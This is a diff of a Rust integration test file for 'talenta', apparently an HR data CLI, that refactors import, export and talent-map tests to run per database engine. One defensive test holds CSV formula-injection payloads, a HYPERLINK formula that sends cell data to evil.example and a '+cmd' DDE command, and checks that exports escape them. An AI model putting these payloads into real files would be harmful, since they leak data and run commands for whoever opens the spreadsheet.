@@ -5,138 +5,62 @@
 // Test code: a failed unwrap is a failed test.
 #![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic)]
 
+mod common;
+
 use std::path::Path;
-use std::process::{Command, Output};
+use std::process::Command;
 
-use talenta_testkit::{TempDir, TestDb, databases};
+use common::{city, export_all, generate, ok, stderr, talenta};
+use talenta_testkit::{TempDir, TestDb, databases, each_engine};
 
-fn talenta(args: &[&str]) -> Output {
-    Command::new(env!("CARGO_BIN_EXE_talenta"))
-        .args(args)
-        .output()
-        .unwrap()
-}
-
-fn ok(args: &[&str]) -> Output {
-    let out = talenta(args);
-    assert!(
-        out.status.success(),
-        "talenta {args:?} failed:\n{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    out
-}
-
-fn stderr(out: &Output) -> String {
-    String::from_utf8_lossy(&out.stderr).into_owned()
-}
-
-fn generate(n: u32, seed: u32, dirty: bool) -> TempDir {
-    let dir = TempDir::new("talenta_gen");
-    let out = dir.path().join("city");
-    let (n, seed) = (n.to_string(), seed.to_string());
-    let mut args = vec![
-        "generate",
-        "--employees",
-        &n,
-        "--seed",
-        &seed,
-        "--out",
-        out.to_str().unwrap(),
-    ];
-    if dirty {
-        args.push("--dirty");
-    }
-    ok(&args);
-    dir
-}
-
-fn city(dir: &TempDir) -> String {
-    dir.path().join("city").display().to_string()
-}
-
-const KINDS: [&str; 12] = [
-    "instansi",
-    "opd",
-    "jabatan",
-    "pegawai",
-    "riwayat_jabatan",
-    "riwayat_golongan",
-    "riwayat_pendidikan",
-    "riwayat_diklat",
-    "riwayat_penghargaan",
-    "riwayat_hukdis",
-    "skp",
-    "asesmen",
-];
-
-/// Every kind exported as CSV into `dir`; the bytes, by kind.
-fn export_all(db: &TestDb, dir: &Path) -> Vec<(String, Vec<u8>)> {
-    std::fs::create_dir_all(dir).unwrap();
-    KINDS
-        .iter()
-        .map(|kind| {
-            let file = dir.join(format!("{kind}.csv"));
-            ok(&[
-                "export",
-                kind,
-                "--db",
-                &db.url,
-                "--out",
-                file.to_str().unwrap(),
-            ]);
-            ((*kind).to_owned(), std::fs::read(&file).unwrap())
-        })
-        .collect()
-}
-
-#[test]
-fn a_generated_city_round_trips_through_export_and_reimport() {
+fn a_generated_city_round_trips_through_export_and_reimport(db: &TestDb) {
     let generated = generate(400, 7, false);
-    for db in databases() {
-        let first = ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
+    let first = ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
+    assert!(
+        stderr(&first).contains("imported into instansi"),
+        "{}",
+        stderr(&first)
+    );
+
+    let again = ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
+    for line in stderr(&again).lines().filter(|l| l.contains(" rows, ")) {
         assert!(
-            stderr(&first).contains("imported into instansi"),
-            "{}",
-            stderr(&first)
-        );
-
-        let again = ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
-        for line in stderr(&again).lines().filter(|l| l.contains(" rows, ")) {
-            assert!(
-                line.contains(" 0 written"),
-                "{}: re-import wrote: {line}",
-                db.engine
-            );
-        }
-
-        let work = TempDir::new("talenta_export");
-        let exported = export_all(&db, &work.path().join("a"));
-        let pegawai = &exported.iter().find(|(k, _)| k == "pegawai").unwrap().1;
-        assert_eq!(
-            pegawai.iter().filter(|b| **b == b'\n').count(),
-            401,
-            "{}: header and 400 employees",
+            line.contains(" 0 written"),
+            "{}: re-import wrote: {line}",
             db.engine
         );
-
-        // The exported files import into an empty database and export the same.
-        for other in databases().into_iter().filter(|o| o.engine == db.engine) {
-            ok(&[
-                "import",
-                "--dir",
-                work.path().join("a").to_str().unwrap(),
-                "--db",
-                &other.url,
-            ]);
-            let again = export_all(&other, &work.path().join("b"));
-            assert_eq!(
-                exported, again,
-                "{}: export → import → export differs",
-                db.engine
-            );
-        }
     }
+
+    let work = TempDir::new("talenta_export");
+    let exported = export_all(db, &work.path().join("a"));
+    let pegawai = &exported.iter().find(|(k, _)| k == "pegawai").unwrap().1;
+    assert_eq!(
+        pegawai.iter().filter(|b| **b == b'\n').count(),
+        401,
+        "{}: header and 400 employees",
+        db.engine
+    );
+
+    // The exported files import into an empty database and export the same.
+    reimports_the_same(
+        db,
+        &exported,
+        &work.path().join("a"),
+        &work.path().join("b"),
+    );
+}
+
+/// The files `exported` from `db` into `dir` import into an empty
+/// database of the same engine, which exports them (into `again`) the same.
+fn reimports_the_same(db: &TestDb, exported: &[(String, Vec<u8>)], dir: &Path, again: &Path) {
+    let other = db.another();
+    ok(&["import", "--dir", dir.to_str().unwrap(), "--db", &other.url]);
+    assert_eq!(
+        exported,
+        export_all(&other, again),
+        "{}: export → import → export differs",
+        db.engine
+    );
 }
 
 /// The values of `column` in CSV `bytes`, one per row.
@@ -157,8 +81,7 @@ fn cells(bytes: &[u8], column: &str) -> Vec<String> {
 /// Names, places and titles that a spreadsheet would run as formulas come
 /// out of every CSV export with one `'` in front, and an export imports
 /// back exactly (docs/formats.md, "Formulas in CSV files").
-#[test]
-fn formula_text_is_guarded_in_csv_exports_and_round_trips_on_both_engines() {
+fn formula_text_is_guarded_in_csv_exports_and_round_trips(db: &TestDb) {
     let generated = generate(40, 5, false);
     let file = generated.path().join("city/pegawai.csv");
     let evil = [
@@ -189,79 +112,59 @@ fn formula_text_is_guarded_in_csv_exports_and_round_trips_on_both_engines() {
     let nip = first[0].clone();
 
     let work = TempDir::new("talenta_formula");
-    for db in databases() {
-        ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
-        let exported = export_all(&db, &work.path().join(db.engine));
-        let pegawai = &exported.iter().find(|(k, _)| k == "pegawai").unwrap().1;
-        let at = cells(pegawai, "nipBaru")
-            .iter()
-            .position(|n| *n == nip)
-            .unwrap();
-        for (column, expected) in [
-            (
-                "nama",
-                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
-            ),
-            ("tempatLahir", "'+cmd|' /C calc'!A0"),
-            ("gelarDepan", "'-5"),
-            ("gelarBelakang", "''quoted"),
-        ] {
-            assert_eq!(cells(pegawai, column)[at], expected, "{}", db.engine);
-        }
-        for (kind, bytes) in &exported {
-            let mut reader = csv::Reader::from_reader(bytes.as_slice());
-            for record in reader.records() {
-                for cell in &record.unwrap() {
-                    assert!(
-                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
-                        "{}: {kind}: unguarded {cell:?}",
-                        db.engine
-                    );
-                }
+    ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
+    let exported = export_all(db, &work.path().join(db.engine));
+    let pegawai = &exported.iter().find(|(k, _)| k == "pegawai").unwrap().1;
+    let at = cells(pegawai, "nipBaru")
+        .iter()
+        .position(|n| *n == nip)
+        .unwrap();
+    for (column, expected) in [
+        (
+            "nama",
+            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
+        ),
+        ("tempatLahir", "'+cmd|' /C calc'!A0"),
+        ("gelarDepan", "'-5"),
+        ("gelarBelakang", "''quoted"),
+    ] {
+        assert_eq!(cells(pegawai, column)[at], expected, "{}", db.engine);
+    }
+    for (kind, bytes) in &exported {
+        let mut reader = csv::Reader::from_reader(bytes.as_slice());
+        for record in reader.records() {
+            for cell in &record.unwrap() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{}: {kind}: unguarded {cell:?}",
+                    db.engine
+                );
             }
         }
-
-        // The talent map's CSV guards the name too and keeps scores numbers.
-        let map = work.path().join(format!("{}-map.csv", db.engine));
-        let missing = work.path().join(format!("{}-missing.csv", db.engine));
-        ok(&[
-            "map",
-            "--period",
-            "2026-S1",
-            "--db",
-            &db.url,
-            "--out",
-            map.to_str().unwrap(),
-            "--missing",
-            missing.to_str().unwrap(),
-        ]);
-        let (map, missing) = (
-            std::fs::read(&map).unwrap(),
-            std::fs::read(&missing).unwrap(),
-        );
-        let names: Vec<String> = cells(&map, "name")
-            .into_iter()
-            .chain(cells(&missing, "name"))
-            .collect();
-        // The map shows the name with its titles: `-5 =HYPERLINK(…), 'quoted`.
-        let shown = "'-5 =HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\"), 'quoted";
-        assert!(names.iter().any(|n| n == shown), "{}: {names:?}", db.engine);
-        for score in cells(&map, "kinerja") {
-            assert!(score.parse::<f64>().is_ok(), "{score:?}");
-        }
-
-        // The export imports into an empty database and exports the same.
-        for other in databases().into_iter().filter(|o| o.engine == db.engine) {
-            let dir = work.path().join(db.engine);
-            ok(&["import", "--dir", dir.to_str().unwrap(), "--db", &other.url]);
-            let again = export_all(&other, &work.path().join(format!("{}-again", db.engine)));
-            assert_eq!(
-                exported, again,
-                "{}: export → import → export differs",
-                db.engine
-            );
-        }
     }
+
+    // The talent map's CSV guards the name too and keeps scores numbers.
+    let map = work.path().join(format!("{}-map.csv", db.engine));
+    let missing = work.path().join(format!("{}-missing.csv", db.engine));
+    map_into(db, &map, Some(&missing));
+    let (map, missing) = (
+        std::fs::read(&map).unwrap(),
+        std::fs::read(&missing).unwrap(),
+    );
+    let names: Vec<String> = cells(&map, "name")
+        .into_iter()
+        .chain(cells(&missing, "name"))
+        .collect();
+    // The map shows the name with its titles: `-5 =HYPERLINK(…), 'quoted`.
+    let shown = "'-5 =HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\"), 'quoted";
+    assert!(names.iter().any(|n| n == shown), "{}: {names:?}", db.engine);
+    for score in cells(&map, "kinerja") {
+        assert!(score.parse::<f64>().is_ok(), "{score:?}");
+    }
+
+    // The export imports into an empty database and exports the same.
+    let again = work.path().join(format!("{}-again", db.engine));
+    reimports_the_same(db, &exported, &work.path().join(db.engine), &again);
 }
 
 #[test]
@@ -283,40 +186,38 @@ fn the_same_city_gives_the_same_export_on_both_engines() {
 /// Imports a base city, then `bad` (files to put over a copy of it) and
 /// checks the import fails with `expect` in its messages and changes
 /// nothing.
-fn rejected(files: &[(&str, &[u8])], expect: &[&str]) {
+fn rejected(db: &TestDb, files: &[(&str, &[u8])], expect: &[&str]) {
     let generated = generate(120, 3, false);
-    for db in databases() {
-        ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
-        let work = TempDir::new("talenta_bad");
-        let before = export_all(&db, &work.path().join("before"));
-        let bad = work.path().join("bad");
-        std::fs::create_dir_all(&bad).unwrap();
-        for (name, bytes) in files {
-            std::fs::write(bad.join(name), bytes).unwrap();
-        }
-        let out = talenta(&["import", "--dir", bad.to_str().unwrap(), "--db", &db.url]);
-        assert_eq!(
-            out.status.code(),
-            Some(1),
-            "{}: {}",
+    ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
+    let work = TempDir::new("talenta_bad");
+    let before = export_all(db, &work.path().join("before"));
+    let bad = work.path().join("bad");
+    std::fs::create_dir_all(&bad).unwrap();
+    for (name, bytes) in files {
+        std::fs::write(bad.join(name), bytes).unwrap();
+    }
+    let out = talenta(&["import", "--dir", bad.to_str().unwrap(), "--db", &db.url]);
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}: {}",
+        db.engine,
+        stderr(&out)
+    );
+    for needle in expect {
+        assert!(
+            stderr(&out).contains(needle),
+            "{}: expected {needle:?} in:\n{}",
             db.engine,
             stderr(&out)
         );
-        for needle in expect {
-            assert!(
-                stderr(&out).contains(needle),
-                "{}: expected {needle:?} in:\n{}",
-                db.engine,
-                stderr(&out)
-            );
-        }
-        let after = export_all(&db, &work.path().join("after"));
-        assert_eq!(
-            before, after,
-            "{}: a failed import changed the data",
-            db.engine
-        );
     }
+    let after = export_all(db, &work.path().join("after"));
+    assert_eq!(
+        before, after,
+        "{}: a failed import changed the data",
+        db.engine
+    );
 }
 
 const PEGAWAI_HEADER: &str = "nipBaru,nama,jenisKelamin,tglLahir,statusPegawai,unorId\n";
@@ -332,8 +233,7 @@ fn opd_of(generated: &TempDir) -> String {
         .to_owned()
 }
 
-#[test]
-fn bad_rows_are_all_reported_and_nothing_is_written() {
+fn bad_rows_are_all_reported_and_nothing_is_written(db: &TestDb) {
     let generated = generate(120, 3, false);
     let opd = opd_of(&generated);
     let good = "198503152010012003";
@@ -346,6 +246,7 @@ fn bad_rows_are_all_reported_and_nothing_is_written() {
          199001012015031002,Joko,L,31-02-1990,PNS,{opd}\n"
     );
     rejected(
+        db,
         &[("pegawai.csv", text.as_bytes())],
         &[
             "line 3, column 1 (nipBaru)",
@@ -358,19 +259,18 @@ fn bad_rows_are_all_reported_and_nothing_is_written() {
     );
 }
 
-#[test]
-fn a_truncated_file_is_refused_whole() {
+fn a_truncated_file_is_refused_whole(db: &TestDb) {
     let generated = generate(120, 3, false);
     let opd = opd_of(&generated);
     let text = format!("{PEGAWAI_HEADER}198503152010012003,\"Siti,P,15-03-1985,PNS,{opd}\n");
     rejected(
+        db,
         &[("pegawai.csv", text.as_bytes())],
         &["pegawai.csv", "nothing was written"],
     );
 }
 
-#[test]
-fn text_that_is_not_utf8_is_located() {
+fn text_that_is_not_utf8_is_located(db: &TestDb) {
     let generated = generate(120, 3, false);
     let opd = opd_of(&generated);
     let mut bytes = PEGAWAI_HEADER.as_bytes().to_vec();
@@ -378,21 +278,21 @@ fn text_that_is_not_utf8_is_located() {
     bytes.extend_from_slice(opd.as_bytes());
     bytes.push(b'\n');
     rejected(
+        db,
         &[("pegawai.csv", &bytes)],
         &["line 2, column 2 (nama)", "UTF-8", "nothing was written"],
     );
 }
 
-#[test]
-fn an_empty_file_is_refused() {
+fn an_empty_file_is_refused(db: &TestDb) {
     rejected(
+        db,
         &[("pegawai.csv", b"")],
         &["pegawai.csv", "empty", "nothing was written"],
     );
 }
 
-#[test]
-fn a_spreadsheet_formula_is_refused() {
+fn a_spreadsheet_formula_is_refused(db: &TestDb) {
     let mut workbook = rust_xlsxwriter::Workbook::new();
     let sheet = workbook.add_worksheet();
     for (column, name) in ["unorId", "unorNama", "unorIndukId"].iter().enumerate() {
@@ -405,22 +305,25 @@ fn a_spreadsheet_formula_is_refused() {
         .write_formula(1, 1, "=CONCAT(\"Badan \", \"Baru\")")
         .unwrap();
     let bytes = workbook.save_to_buffer().unwrap();
-    rejected(&[("opd.xlsx", &bytes)], &["opd.xlsx", "cell B2", "formula"]);
+    rejected(
+        db,
+        &[("opd.xlsx", &bytes)],
+        &["opd.xlsx", "cell B2", "formula"],
+    );
 }
 
-#[test]
-fn a_cycle_in_the_unit_tree_is_refused() {
+fn a_cycle_in_the_unit_tree_is_refused(db: &TestDb) {
     let opd = "unorId,unorNama,unorIndukId\nA,Unit A,C\nB,Unit B,A\nC,Unit C,B\nD,Unit D,\n";
-    rejected(&[("opd.csv", opd.as_bytes())], &["cycle", "A, B, C"]);
+    rejected(db, &[("opd.csv", opd.as_bytes())], &["cycle", "A, B, C"]);
 }
 
-#[test]
-fn one_bad_file_of_a_directory_keeps_the_others_out() {
+fn one_bad_file_of_a_directory_keeps_the_others_out(db: &TestDb) {
     let generated = generate(120, 3, false);
     let opd = opd_of(&generated);
     let new_opd = "unorId,unorNama,unorIndukId\nBARU,Badan Baru,\n";
     let pegawai = format!("{PEGAWAI_HEADER}198503152010012003,Siti,X,15-03-1985,PNS,{opd}\n");
     rejected(
+        db,
         &[
             ("opd.csv", new_opd.as_bytes()),
             ("pegawai.csv", pegawai.as_bytes()),
@@ -429,68 +332,62 @@ fn one_bad_file_of_a_directory_keeps_the_others_out() {
     );
 }
 
-#[test]
-fn a_dirty_city_is_refused_with_every_problem_listed() {
+fn a_dirty_city_is_refused_with_every_problem_listed(db: &TestDb) {
     let generated = generate(2000, 5, true);
-    for db in databases() {
-        let out = talenta(&["import", "--dir", &city(&generated), "--db", &db.url]);
-        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
-        let text = stderr(&out);
-        assert!(text.contains("nothing was written"), "{text}");
-        assert!(
-            text.lines().filter(|l| l.contains(".csv: line ")).count() >= 5,
-            "{text}"
-        );
-        let exported = talenta(&["export", "pegawai", "--db", &db.url]);
-        assert!(!exported.status.success(), "no instansi was imported");
-    }
+    let out = talenta(&["import", "--dir", &city(&generated), "--db", &db.url]);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let text = stderr(&out);
+    assert!(text.contains("nothing was written"), "{text}");
+    assert!(
+        text.lines().filter(|l| l.contains(".csv: line ")).count() >= 5,
+        "{text}"
+    );
+    let exported = talenta(&["export", "pegawai", "--db", &db.url]);
+    assert!(!exported.status.success(), "no instansi was imported");
 }
 
 /// Kills the importer (SIGKILL) while it writes a large city over a smaller
 /// one, then checks the database holds exactly the smaller one and, on
 /// SQLite, passes `PRAGMA integrity_check`.
-#[test]
-fn an_importer_killed_mid_write_leaves_the_database_unchanged() {
+fn an_importer_killed_mid_write_leaves_the_database_unchanged(db: &TestDb) {
     let small = generate(200, 21, false);
     let large = generate(60_000, 22, false);
-    for db in databases() {
-        ok(&["import", "--dir", &city(&small), "--db", &db.url]);
-        let work = TempDir::new("talenta_crash");
-        let before = export_all(&db, &work.path().join("before"));
+    ok(&["import", "--dir", &city(&small), "--db", &db.url]);
+    let work = TempDir::new("talenta_crash");
+    let before = export_all(db, &work.path().join("before"));
 
-        let mut child = Command::new(env!("CARGO_BIN_EXE_talenta"))
-            .args([
-                "import",
-                "--dir",
-                &city(&large),
-                "--db",
-                &db.url,
-                "--instansi",
-            ])
-            .arg(instansi_of(&small))
-            .stderr(std::process::Stdio::null())
-            .spawn()
+    let mut child = Command::new(env!("CARGO_BIN_EXE_talenta"))
+        .args([
+            "import",
+            "--dir",
+            &city(&large),
+            "--db",
+            &db.url,
+            "--instansi",
+        ])
+        .arg(instansi_of(&small))
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let writing = wait_until_writing(db, &mut child);
+    assert!(writing, "{}: the importer never got to write", db.engine);
+    child.kill().unwrap(); // SIGKILL on Unix
+    child.wait().unwrap();
+
+    if let Some(path) = db.sqlite_path() {
+        let check = Command::new(env!("CARGO_BIN_EXE_talenta"))
+            .args(["export", "instansi", "--db", &db.url])
+            .output()
             .unwrap();
-        let writing = wait_until_writing(&db, &mut child);
-        assert!(writing, "{}: the importer never got to write", db.engine);
-        child.kill().unwrap(); // SIGKILL on Unix
-        child.wait().unwrap();
-
-        if let Some(path) = db.sqlite_path() {
-            let check = Command::new(env!("CARGO_BIN_EXE_talenta"))
-                .args(["export", "instansi", "--db", &db.url])
-                .output()
-                .unwrap();
-            assert!(check.status.success(), "{}", stderr(&check));
-            assert_eq!(integrity_check(&path), "ok");
-        }
-        let after = export_all(&db, &work.path().join("after"));
-        assert_eq!(
-            before, after,
-            "{}: the killed import left changes",
-            db.engine
-        );
+        assert!(check.status.success(), "{}", stderr(&check));
+        assert_eq!(integrity_check(&path), "ok");
     }
+    let after = export_all(db, &work.path().join("after"));
+    assert_eq!(
+        before, after,
+        "{}: the killed import left changes",
+        db.engine
+    );
 }
 
 /// A first load into empty SQLite tables drops their secondary indexes and
@@ -636,116 +533,128 @@ fn integrity_check(path: &Path) -> String {
     })
 }
 
-#[test]
-fn the_talent_map_is_the_same_on_both_engines_and_agrees_with_classify() {
+/// The talent map of the shared city (600 employees, seed 13) on `db`,
+/// as JSON in `work`, with the employees it could not place beside it:
+/// the summary, the map's path and the missing list's path.
+fn mapped(
+    generated: &TempDir,
+    db: &TestDb,
+    work: &Path,
+) -> (String, std::path::PathBuf, std::path::PathBuf) {
+    ok(&["import", "--dir", &city(generated), "--db", &db.url]);
+    let json = work.join(format!("{}.json", db.engine));
+    let missing = work.join(format!("{}-missing.csv", db.engine));
+    (map_into(db, &json, Some(&missing)), json, missing)
+}
+
+/// `talenta map` of 2026-S1 on `db` into `out` and, if given, the
+/// employees it could not place into `missing`; its summary.
+fn map_into(db: &TestDb, out: &Path, missing: Option<&Path>) -> String {
+    let mut args = vec![
+        "map",
+        "--period",
+        "2026-S1",
+        "--db",
+        &db.url,
+        "--out",
+        out.to_str().unwrap(),
+    ];
+    if let Some(missing) = missing {
+        args.extend(["--missing", missing.to_str().unwrap()]);
+    }
+    stderr(&ok(&args))
+}
+
+fn the_talent_map_agrees_with_classify(db: &TestDb) {
     let generated = generate(600, 13, false);
     let work = TempDir::new("talenta_map");
-    let mut maps = Vec::new();
-    for db in databases() {
-        ok(&["import", "--dir", &city(&generated), "--db", &db.url]);
-        let json = work.path().join(format!("{}.json", db.engine));
-        let missing = work.path().join(format!("{}-missing.csv", db.engine));
-        let out = ok(&[
-            "map",
-            "--period",
-            "2026-S1",
-            "--db",
-            &db.url,
-            "--out",
-            json.to_str().unwrap(),
-            "--missing",
-            missing.to_str().unwrap(),
-        ]);
-        let summary = stderr(&out);
-        assert!(summary.contains("placed"), "{summary}");
+    let (summary, json, missing) = mapped(&generated, db, work.path());
+    assert!(summary.contains("placed"), "{summary}");
 
-        let placed: Vec<serde_json::Value> =
-            serde_json::from_slice(&std::fs::read(&json).unwrap()).unwrap();
-        let left_out = std::fs::read_to_string(&missing).unwrap();
-        assert_eq!(left_out.lines().next(), Some("nip,name,opd,missing"));
-        assert_eq!(
-            placed.len() + left_out.lines().count() - 1,
-            600,
-            "{}: every employee is placed or listed as missing data",
-            db.engine
-        );
-        assert!(
-            placed.len() > 300,
-            "{}: most employees are placed",
-            db.engine
-        );
-        for entry in &placed {
-            let keys: Vec<&str> = entry
-                .as_object()
-                .unwrap()
-                .keys()
-                .map(String::as_str)
-                .collect();
-            for key in ["nip", "name", "opd", "kinerja", "potensial", "box", "label"] {
-                assert!(keys.contains(&key), "{key} missing in {entry}");
-            }
-        }
-
-        // Re-running replaces the snapshot; the stored map exports the same.
-        let csv = work.path().join(format!("{}.csv", db.engine));
-        ok(&[
-            "map",
-            "--period",
-            "2026-S1",
-            "--db",
-            &db.url,
-            "--out",
-            csv.to_str().unwrap(),
-        ]);
-        let exported = ok(&[
-            "export",
-            "peta_talenta",
-            "--period",
-            "2026-S1",
-            "--db",
-            &db.url,
-        ]);
-        assert_eq!(std::fs::read(&csv).unwrap(), exported.stdout);
-
-        // `talenta classify` on the map's own scores gives the same boxes.
-        let classified = ok(&["classify", "--input", csv.to_str().unwrap()]);
-        let boxes: Vec<String> = String::from_utf8(classified.stdout)
+    let placed: Vec<serde_json::Value> =
+        serde_json::from_slice(&std::fs::read(&json).unwrap()).unwrap();
+    let left_out = std::fs::read_to_string(&missing).unwrap();
+    assert_eq!(left_out.lines().next(), Some("nip,name,opd,missing"));
+    assert_eq!(
+        placed.len() + left_out.lines().count() - 1,
+        600,
+        "{}: every employee is placed or listed as missing data",
+        db.engine
+    );
+    assert!(
+        placed.len() > 300,
+        "{}: most employees are placed",
+        db.engine
+    );
+    for entry in &placed {
+        let keys: Vec<&str> = entry
+            .as_object()
             .unwrap()
-            .lines()
-            .skip(1)
-            .map(|l| l.split(',').take(2).collect::<Vec<_>>().join(","))
+            .keys()
+            .map(String::as_str)
             .collect();
-        let expected: Vec<String> = placed
-            .iter()
-            .map(|e| format!("{},{}", e["nip"].as_str().unwrap(), e["box"]))
-            .collect();
-        assert_eq!(boxes, expected, "{}", db.engine);
-        maps.push(std::fs::read(&json).unwrap());
+        for key in ["nip", "name", "opd", "kinerja", "potensial", "box", "label"] {
+            assert!(keys.contains(&key), "{key} missing in {entry}");
+        }
     }
+
+    // Re-running replaces the snapshot; the stored map exports the same.
+    let csv = work.path().join(format!("{}.csv", db.engine));
+    map_into(db, &csv, None);
+    let exported = ok(&[
+        "export",
+        "peta_talenta",
+        "--period",
+        "2026-S1",
+        "--db",
+        &db.url,
+    ]);
+    assert_eq!(std::fs::read(&csv).unwrap(), exported.stdout);
+
+    // `talenta classify` on the map's own scores gives the same boxes.
+    let classified = ok(&["classify", "--input", csv.to_str().unwrap()]);
+    let boxes: Vec<String> = String::from_utf8(classified.stdout)
+        .unwrap()
+        .lines()
+        .skip(1)
+        .map(|l| l.split(',').take(2).collect::<Vec<_>>().join(","))
+        .collect();
+    let expected: Vec<String> = placed
+        .iter()
+        .map(|e| format!("{},{}", e["nip"].as_str().unwrap(), e["box"]))
+        .collect();
+    assert_eq!(boxes, expected, "{}", db.engine);
+}
+
+#[test]
+fn the_talent_map_is_the_same_on_both_engines() {
+    let generated = generate(600, 13, false);
+    let work = TempDir::new("talenta_map");
+    let maps: Vec<Vec<u8>> = databases()
+        .iter()
+        .map(|db| std::fs::read(mapped(&generated, db, work.path()).1).unwrap())
+        .collect();
     if let [sqlite, postgres] = maps.as_slice() {
         assert_eq!(sqlite, postgres, "the engines computed different maps");
     }
 }
 
-#[test]
-fn a_map_needs_a_valid_period_and_an_imported_instansi() {
-    for db in databases() {
-        let bad = talenta(&["map", "--period", "2026-S3", "--db", &db.url]);
-        assert_eq!(bad.status.code(), Some(2));
-        assert!(stderr(&bad).contains("2026-S3"), "{}", stderr(&bad));
-        let empty = talenta(&["map", "--period", "2026-S1", "--db", &db.url]);
-        assert_eq!(empty.status.code(), Some(1));
-        assert!(stderr(&empty).contains("no instansi"), "{}", stderr(&empty));
-        let never = talenta(&[
-            "export",
-            "peta_talenta",
-            "--period",
-            "2026-S1",
-            "--db",
-            &db.url,
-        ]);
-        assert_eq!(never.status.code(), Some(1));
-    }
+fn a_map_needs_a_valid_period_and_an_imported_instansi(db: &TestDb) {
+    let bad = talenta(&["map", "--period", "2026-S3", "--db", &db.url]);
+    assert_eq!(bad.status.code(), Some(2));
+    assert!(stderr(&bad).contains("2026-S3"), "{}", stderr(&bad));
+    let empty = talenta(&["map", "--period", "2026-S1", "--db", &db.url]);
+    assert_eq!(empty.status.code(), Some(1));
+    assert!(stderr(&empty).contains("no instansi"), "{}", stderr(&empty));
+    let never = talenta(&[
+        "export",
+        "peta_talenta",
+        "--period",
+        "2026-S1",
+        "--db",
+        &db.url,
+    ]);
+    assert_eq!(never.status.code(), Some(1));
 }
 
 /// An export writes beside its destination and renames when complete: a
@@ -800,3 +709,19 @@ fn a_failed_export_leaves_an_existing_file_as_it_was() {
     );
     assert_eq!(files(), ["keep.xlsx"]);
 }
+
+each_engine!(
+    blocking: a_generated_city_round_trips_through_export_and_reimport,
+    formula_text_is_guarded_in_csv_exports_and_round_trips,
+    bad_rows_are_all_reported_and_nothing_is_written,
+    a_truncated_file_is_refused_whole,
+    text_that_is_not_utf8_is_located,
+    an_empty_file_is_refused,
+    a_spreadsheet_formula_is_refused,
+    a_cycle_in_the_unit_tree_is_refused,
+    one_bad_file_of_a_directory_keeps_the_others_out,
+    a_dirty_city_is_refused_with_every_problem_listed,
+    an_importer_killed_mid_write_leaves_the_database_unchanged,
+    a_map_needs_a_valid_period_and_an_imported_instansi,
+    the_talent_map_agrees_with_classify,
+);
